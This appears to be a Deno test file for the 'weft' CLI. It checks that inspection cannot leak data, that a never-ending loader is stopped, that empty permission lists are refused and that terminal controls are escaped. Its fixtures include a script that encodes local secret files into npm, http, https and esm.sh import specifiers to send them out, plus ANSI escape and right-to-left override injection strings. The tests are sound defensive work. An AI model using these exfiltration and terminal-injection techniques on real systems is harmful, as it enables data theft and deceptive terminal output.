// Inspection that cannot leak, end to end through the CLI: weft compile and
// weft inspect fetch a script's static module graph in the open, then load
// it with fetching off and imports limited to the graph's hosts, so that a
// script that reads a local file and imports a module named after it makes
// no request; a loader that never returns is stopped; empty permission
// lists are refused where they are written; names and errors from a script
// reach the terminal with their control characters escaped.

import assert from "node:assert/strict";
import { deno, ROOT, tempDir } from "./_helpers.ts";

const MOD = `${ROOT}/mod.ts`;

function weft(args: string[], options: { cwd?: string; env?: Record<string, string> } = {}) {
  return deno(["run", "-A", `${ROOT}/cli.ts`, ...args], options);
}

/**
 * An HTTP server on 127.0.0.1 that records every request (and serves a
 * module for paths ending in .ts), and a TCP port that records every
 * connection (for https: URLs: a certificate Deno would trust cannot be made
 * here, so an https import is caught as the TCP connection it opens).
 */
function recorder() {
  const requests: string[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (req) => {
    requests.push(new URL(req.url).pathname);
    if (req.url.endsWith(".ts")) {
      return new Response("export const fromServer = 1;", {
        headers: { "content-type": "application/typescript" },
      });
    }
    return new Response("not found", { status: 404 });
  });
  const tls = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const connections: number[] = [];
  (async () => {
    for await (const conn of tls) {
      connections.push(Date.now());
      conn.close();
    }
  })().catch(() => {});
  return {
    http: `127.0.0.1:${(server.addr as Deno.NetAddr).port}`,
    https: `127.0.0.1:${(tls.addr as Deno.NetAddr).port}`,
    requests,
    connections,
    async close() {
      tls.close();
      await server.shutdown();
    },
  };
}

Deno.test("weft compile and inspect of a script that reads a local file and imports modules named after it make no request beyond the fetched graph", async () => {
  await using tmp = await tempDir();
  await using away = await tempDir();
  const rec = recorder();
  try {
    // A secret outside the project, imported as JSON (no permission needed)
    // and as text (deno.json turns raw imports on).
    await Deno.writeTextFile(`${away.dir}/secret.json`, `{"token":"hunter2"}`);
    await Deno.writeTextFile(`${away.dir}/secret.txt`, `hunter3`);
    await Deno.writeTextFile(`${away.dir}/mapped.json`, `{"token":"hunter4"}`);
    // deno.json turns raw imports on, and maps a prefix outside the project.
    await Deno.writeTextFile(
      `${tmp.dir}/deno.json`,
      JSON.stringify({ unstable: ["raw-imports"], imports: { "away/": `${away.dir}/` } }),
    );
    // A project .npmrc sends a scope's packages to the recorder.
    await Deno.writeTextFile(`${tmp.dir}/.npmrc`, `@leak:registry=http://${rec.http}/\n`);
    await Deno.writeTextFile(
      `${tmp.dir}/leak.ts`,
      `import { task, workflow } from "${MOD}";
import { fromServer } from "http://${rec.http}/static.ts";
import secret from "${away.dir}/secret.json" with { type: "json" };
import raw from "${away.dir}/secret.txt" with { type: "text" };
import mapped from "away/mapped.json" with { type: "json" };
const data = (secret.token + raw + mapped.token).replace(/[^a-z0-9]/gi, "").toLowerCase();
for (const specifier of [
  "npm:@leak/x-" + data + "@1.0.0",
  "http://${rec.http}/h-" + data + ".ts",
  "https://${rec.https}/s-" + data + ".ts",
  "https://esm.sh/e-" + data,
]) {
  try { await import(specifier); } catch { /* the attacker does not care */ }
}
const t = task(function t() { return fromServer; });
export const w = workflow(function w() { return t(); });
`,
    );
    const env = { WEFT_CACHE_DIR: `${tmp.dir}/cache` };
    const compiled = await weft(
      ["compile", "leak.ts", "--allow-import", rec.http],
      { cwd: tmp.dir, env },
    );
    assert.equal(compiled.code, 0, compiled.stderr);
    JSON.parse(compiled.stdout);
    // No request carried the secret (before: the registry and the http host got one each).
    assert.ok(!rec.requests.some((r) => r.includes("hunter")), `requests: ${rec.requests}`);
    assert.deepEqual(rec.connections, []);
    // The fetch step is in the open: the one static remote module, printed.
    assert.match(compiled.stderr, new RegExp(`weft: fetching http://${rec.http}/static\\.ts`));
    assert.deepEqual(rec.requests, ["/static.ts"]);
    const inspected = await weft(
      ["inspect", "leak.ts", "--allow-import", rec.http],
      { cwd: tmp.dir, env: { WEFT_CACHE_DIR: `${tmp.dir}/other-cache` } },
    );
    assert.equal(inspected.code, 0, inspected.stderr);
    // What the graph reads outside the project is said.
    assert.match(
      inspected.stdout,
      /module graph \(fetched before loading; nothing else is fetched\)/,
    );
    assert.match(inspected.stdout, new RegExp(`modules from 127\\.0\\.0\\.1:\\d+`));
    assert.match(
      inspected.stdout,
      new RegExp(`imports ${away.dir}/secret\\.json \\(as json\\), outside ${tmp.dir}`),
    );
    assert.match(
      inspected.stdout,
      new RegExp(`imports ${away.dir}/secret\\.txt \\(as text\\), outside ${tmp.dir}`),
    );
    assert.match(
      inspected.stdout,
      new RegExp(`imports ${away.dir}/mapped\\.json \\(as json\\), outside ${tmp.dir}`),
    );
    // No request but the static module (already in Deno's cache, so not again), no connection.
    assert.deepEqual(rec.requests, ["/static.ts"]);
    assert.deepEqual(rec.connections, []);
    assert.ok(!rec.requests.some((r) => r.includes("hunter")));
    // weft run loads the same way, and its run (the script's top-level code
    // runs again there, in the driver) fetches nothing either.
    const ran = await weft(
      ["run", "leak.ts", "--allow-import", rec.http, "--store", "memory"],
      { cwd: tmp.dir, env },
    );
    assert.equal(ran.code, 0, ran.stderr);
    assert.equal(JSON.parse(ran.stdout), 1);
    assert.match(ran.stderr, /weft: import nothing is fetched while it runs/);
    assert.deepEqual(rec.requests, ["/static.ts"]);
    assert.deepEqual(rec.connections, []);
  } finally {
    await rec.close();
  }
});

Deno.test("a top-level dynamic import outside the static graph fails the load and says why", async () => {
  await using tmp = await tempDir();
  const rec = recorder();
  try {
    await Deno.writeTextFile(
      `${tmp.dir}/dyn.ts`,
      `import { task, workflow } from "${MOD}";
const name = ["h", "i"].join("");
await import("http://${rec.http}/" + name + ".ts");
const t = task(function t() { return 1; });
export const w = workflow(function w() { return t(); });
`,
    );
    const out = await weft(["inspect", "dyn.ts", "--allow-import", rec.http], {
      cwd: tmp.dir,
      env: { WEFT_CACHE_DIR: `${tmp.dir}/cache` },
    });
    assert.equal(out.code, 2, out.stderr);
    assert.match(
      out.stderr,
      /dyn\.ts imports .* which is not in its static module graph \(a computed dynamic import\)/,
    );
    assert.deepEqual(rec.requests, []);
  } finally {
    await rec.close();
  }
});

Deno.test("a loader that never returns (top-level while (true) {}) is stopped after the load timeout: one line, exit 2", async () => {
  await using tmp = await tempDir();
  await Deno.writeTextFile(
    `${tmp.dir}/loop.ts`,
    `import { task } from "${MOD}";\nexport const t = task(function t() { return 1; });\nwhile (true) {}\n`,
  );
  const env = { WEFT_CACHE_DIR: `${tmp.dir}/cache`, WEFT_LOAD_TIMEOUT: "1s" };
  const started = Date.now();
  const inspected = await weft(["inspect", "loop.ts"], { cwd: tmp.dir, env });
  assert.equal(inspected.code, 2, inspected.stderr);
  assert.equal(inspected.stderr.trim().split("\n").length, 1, inspected.stderr);
  assert.match(
    inspected.stderr,
    /^weft: Loading loop\.ts did not finish within 1 s and was stopped: its top-level code may loop or wait forever/,
  );
  assert.ok(Date.now() - started < 20_000);
  // The flag wins over the environment.
  const compiled = await weft(["compile", "loop.ts", "--load-timeout", "500ms"], {
    cwd: tmp.dir,
    env,
  });
  assert.equal(compiled.code, 2);
  assert.match(compiled.stderr, /did not finish within 0\.5 s/);
  const bad = await weft(["inspect", "loop.ts", "--load-timeout", "soon"], { cwd: tmp.dir, env });
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /--load-timeout/);
});

Deno.test("an empty permission list is a ValidationError where the task is defined", async () => {
  await using tmp = await tempDir();
  for (const kind of ["net", "run", "env", "read", "write", "sys", "ffi", "import"]) {
    await Deno.writeTextFile(
      `${tmp.dir}/empty_${kind}.ts`,
      `import { task, workflow } from "${MOD}";
const t = task({ name: "t", permissions: { ${kind}: [] } }, () => 1);
export const w = workflow(function w() { return t(); });
`,
    );
    const out = await weft(["inspect", `empty_${kind}.ts`], {
      cwd: tmp.dir,
      env: { WEFT_CACHE_DIR: `${tmp.dir}/cache` },
    });
    assert.equal(out.code, 2, `${kind}: ${out.stderr}`);
    assert.match(
      out.stderr,
      new RegExp(
        `\`${kind}: \\[\\]\` in the permissions of task 't' grants nothing; remove it or name`,
      ),
      kind,
    );
  }
  const { task, ValidationError } = await import("../mod.ts");
  assert.throws(
    () => task({ name: "n", permissions: { net: [] } }, () => 1),
    (e: unknown) =>
      e instanceof ValidationError &&
      /`net: \[\]` .* grants nothing; remove it or name hosts/.test(e.message),
  );
});

Deno.test("terminal controls in task names, node ids, errors and logs are escaped by run, show and runs", async () => {
  await using tmp = await tempDir();
  // ESC sequences that would clear the screen, move up and set the window
  // title, and a right-to-left override.
  await Deno.writeTextFile(
    `${tmp.dir}/evil.ts`,
    `import { flow, task, wait } from "${MOD}";
const evil = task({ name: "ev\\u001b[2Jil\\u202e" }, (x: number, ctx: { log(m: string): void }) => {
  console.log("user says \\u001b[1Ahello");
  ctx.log("logged \\u001b[3Aline");
  if (x > 0) throw new Error("boom \\u001b]0;pwned\\u0007 \\u009b31m");
  return x;
});
export const main = flow(async function* main(x: number) {
  return yield* wait(evil(x));
});
`,
  );
  const store = ["--store", `sqlite:${tmp.dir}/weft.db`];
  const env = { WEFT_CACHE_DIR: `${tmp.dir}/cache` };
  const ran = await weft(
    ["run", "evil.ts", "--input", "x=1", "--run-id", "evil-1", ...store],
    { cwd: tmp.dir, env },
  );
  assert.equal(ran.code, 1, ran.stderr);
  // deno-lint-ignore no-control-regex
  const raw = /[\u001b\u0007\u009b\u202e]/;
  assert.doesNotMatch(ran.stderr, raw, "run's stderr holds no raw control");
  assert.doesNotMatch(ran.stdout, raw);
  assert.match(ran.stderr, /ev\\x1b\[2Jil\\u202e/);
  assert.match(ran.stderr, /boom \\x1b\]0;pwned\\x07 \\x9b31m/);
  assert.match(ran.stderr, /user says \\x1b\[1Ahello/);
  assert.match(ran.stderr, /logged \\x1b\[3Aline/);
  const ok = await weft(
    ["run", "evil.ts", "--input", "x=0", "--run-id", "evil-2", "--json", ...store],
    { cwd: tmp.dir, env },
  );
  assert.equal(ok.code, 0, ok.stderr);
  assert.doesNotMatch(ok.stdout, raw);
  for (const line of ok.stdout.trim().split("\n")) JSON.parse(line);
  for (
    const args of [["show", "evil-1"], ["show", "evil-1", "--json"], ["runs"], ["runs", "--json"]]
  ) {
    const out = await weft([...args, ...store], { cwd: tmp.dir, env });
    assert.equal(out.code, 0, out.stderr);
    assert.doesNotMatch(out.stdout, raw, args.join(" "));
    assert.doesNotMatch(out.stderr, raw, args.join(" "));
  }
  const shown = await weft(["show", "evil-1", ...store], { cwd: tmp.dir, env });
  assert.match(shown.stdout, /ev\\x1b\[2Jil\\u202e/);
  assert.match(shown.stdout, /boom \\x1b\]0;pwned\\x07/);
  const json = await weft(["show", "evil-1", "--json", ...store], { cwd: tmp.dir, env });
  // deno-lint-ignore no-control-regex
  assert.match(JSON.parse(json.stdout).nodes[0].entity, /^ev\u001b\[2Jil\u202e$/);
});
